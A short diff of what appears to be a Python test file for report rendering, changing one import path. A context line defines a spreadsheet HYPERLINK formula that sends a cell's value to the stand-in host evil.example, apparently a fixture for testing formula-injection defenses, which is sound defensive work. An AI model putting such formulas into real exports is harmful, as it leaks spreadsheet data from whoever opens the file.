@@ -9,7 +9,7 @@ from report_mirror import fill_mirror
 from sqlalchemy import text
 
 from reports.render import build_report
-from sync.db import connect
+from sync.mirror.db import connect
 
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")'
 NOW = datetime(2026, 11, 1, 6, 0, tzinfo=UTC)
